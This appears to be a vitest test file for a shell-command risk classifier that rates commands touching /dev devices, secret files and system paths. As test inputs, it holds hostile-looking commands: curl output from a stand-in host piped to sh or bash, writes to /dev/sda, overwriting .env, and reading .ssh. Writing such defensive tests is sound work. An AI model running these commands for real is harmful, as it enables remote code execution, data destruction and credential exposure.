import { describe, expect, test } from "vitest";
import { makeFixture } from "../../test/gate-matrix/fixture.ts";
import { readEffect, writeEffect } from "../effects/file-effects.ts";

function makeProject() {
  const fixture = makeFixture({ a: "one\n", b: "two\n", ".env": "KEY=1\n" });
  fixture.mkdir(".git");
  fixture.link("null", "/dev/null");
  fixture.link("input", "/dev/stdin");
  fixture.link("devices", "/dev");
  return fixture;
}

/** The risk of every text, with the reasons where it is more than reading. */
function risksOf(texts: readonly string[]) {
  const { shell, assess, root } = makeProject();
  return Object.fromEntries(
    texts.map((text) => {
      const { risk, reasons } = assess(shell(text));
      const why = risk > "R1" ? `: ${reasons.join("; ").replaceAll(`${root}/`, "")}` : "";
      return [text, `${risk}${why}`];
    }),
  );
}

describe("devices in a command", () => {
  test("what they are is known", () => {
    const table = {
      "grep -n x a /dev/null": "R1",
      "grep -rn x . /dev/null": "R1",
      "find . -exec grep x {} /dev/null \\;": "R1",
      "diff /dev/null a": "R1",
      "git diff --no-index /dev/null a": "R1",
      "cat /dev/stdin": "R1",
      "wc -l /dev/fd/0": "R1",
      "cat < /dev/null": "R0",
      "cat < /dev/stdin": "R0",
      "while read x; do echo $x; done < /dev/fd/0": "R0",
      "[ -c /dev/null ]": "R1",
      "ls -l /dev/urandom /dev/stdout": "R1",
      "echo a | tee /dev/stderr": "R0",
      "echo a > /dev/full": "R0",
      "echo a 2> /dev/fd/1": "R0",
      "sort -o /dev/stdout a": "R1",
      "curl -so /dev/null https://x.test": "R4: connects to x.test",
      "cp /dev/null a": "R2: writes a",
      "f=/dev/null; cat $f": "R1",
    };
    expect(risksOf(Object.keys(table))).toEqual(table);
  });

  test("by another name, as another thing or beside a secret they stay closed", () => {
    const special = (verb: string, path: string) => `R5: ${verb} ${path}, which is not a regular file`;
    const table = {
      "cat null": special("reads", "/dev/null"),
      "cat input": special("reads", "/dev/stdin"),
      "cat devices/null": special("reads", "/dev/null"),
      "cat < null": special("reads", "/dev/null"),
      "cat /dev/sda": special("reads", "/dev/sda"),
      "cat /dev/fd/3": special("reads", "/dev/fd/3"),
      "cat /dev/tty": "R4: reads /dev/tty, the terminal",
      "read x < /dev/tty": "R4: reads /dev/tty, the terminal",
      "rm /dev/tty": special("deletes", "/dev/tty"),
      "cat /dev/stdout": special("reads", "/dev/stdout"),
      "echo a > /dev/tty": "R4: writes /dev/tty, the terminal",
      "echo a > /dev/sda": special("writes", "/dev/sda"),
      "echo a >> /dev/stdin": special("writes", "/dev/stdin"),
      "tee /dev/stdin < a": special("writes", "/dev/stdin"),
      "rm /dev/null": special("deletes", "/dev/null"),
      "mv a /dev/null": special("writes", "/dev/null"),
      "cp a /dev/null": special("writes", "/dev/null"),
      "chmod 777 /dev/null": special("writes", "/dev/null"),
      "ln -s /dev/null x": special("reads", "/dev/null and all below it"),
      "ln -s /dev/zero x": special("reads", "/dev/zero and all below it"),
      "cp -a /dev/null x": "R4: cp copies /dev/null",
      "cp -R /dev/zero x": "R4: cp copies /dev/zero",
      "cp /dev/stdin x": "R4: cp copies /dev/stdin",
      "install /dev/stdin x": "R4: install may change owners and run programs",
      "f=/dev/stdin; cat < $f": "R4: $f is known only when it runs",
      "diff /dev/null .env": "R5: reads .env, a secret (environment file)",
      "git diff --no-index /dev/null null": special("reads", "/dev/null and all below it"),
      "head -c 9 /dev/zero > .env": "R5: writes .env, a secret (environment file)",
    };
    expect(risksOf(Object.keys(table))).toEqual(table);
  });

  test("what is read from them and run is not understood", () => {
    const unread = "R4: bash runs a script that could not be analysed";
    const table = {
      "bash /dev/stdin": unread,
      "bash -e /dev/fd/0": unread,
      "bash /dev/null": unread,
      "bash < /dev/stdin": unread,
    };
    expect(risksOf(Object.keys(table))).toEqual(table);
    const fetched = [
      "bash /dev/stdin",
      "bash < /dev/stdin",
      "sh /dev/fd/0",
      "tee /dev/stderr | sh",
      "cat /dev/stdin | sh",
    ];
    const needs = fetched.map((text) => {
      const { parts } = makeProject().shell(`curl -so /dev/stdout https://x.test | ${text}`);
      return [text, parts.some((part) => part.needsSavedRule === true)];
    });
    expect(needs).toEqual(fetched.map((text) => [text, true]));
  });

  test.each(["cat /dev/stdin", "head -c 5 < /dev/stdin", "diff --to-file=/dev/stdin a", "head -c 5 /dev/fd/0"])(
    "%s takes lines of the text that its own shell reads",
    (text) => {
      const { effects } = makeProject().shell(`bash <<'EOF'\n${text}\necho b\nEOF`);
      expect(effects).toContainEqual({ op: "unknown", why: "a command may take lines of its own shell's text" });
    },
  );

  test("tools that read and write files refuse them", () => {
    const { assess, view } = makeProject();
    const effects = [readEffect(view, "/dev/null", "file"), writeEffect(view, "/dev/stdout", "file")];
    expect(effects.map((effect) => assess({ effects: [effect] }).risk)).toEqual(["R5", "R5"]);
  });

  test("no other tool is named for them", () => {
    const { shell } = makeProject();
    const steps = ["cat /dev/stdin", "grep x /dev/stdin", "ls /dev/null", "head -3 /dev/null"].map(
      (text) => shell(text).next,
    );
    expect(steps).toEqual([undefined, undefined, undefined, undefined]);
  });
});

test("what is installed is known to all", () => {
  const outside = (what: string) => `${what}, outside the workspace`;
  const table = {
    "ls /usr/lib": "R1",
    "ls -la /usr/bin": "R1",
    "[ -d /usr/include ]": "R1",
    "stat -c %s /usr/lib/x": "R1",
    "ls /usr/x/.ssh": "R5: lists /usr/x/.ssh, a secret (credentials)",
    "ls -R /usr/share": "R1",
    "find /usr/share -name x": "R1",
    "cat /usr/lib/x": "R1",
    "find /opt/x -name y": outside("R4: lists /opt/x and all below it"),
    "grep -r x /opt/x": outside("R5: reads /opt/x and all below it"),
    "cd /usr/share && npm test": outside("R4: reads /usr/share"),
    "touch /usr/lib/x": outside("R5: writes /usr/lib/x"),
    "ls /opt/x": outside("R4: lists /opt/x"),
    "ls /usrx": outside("R4: lists /usrx"),
  };
  expect(risksOf(Object.keys(table))).toEqual(table);
});
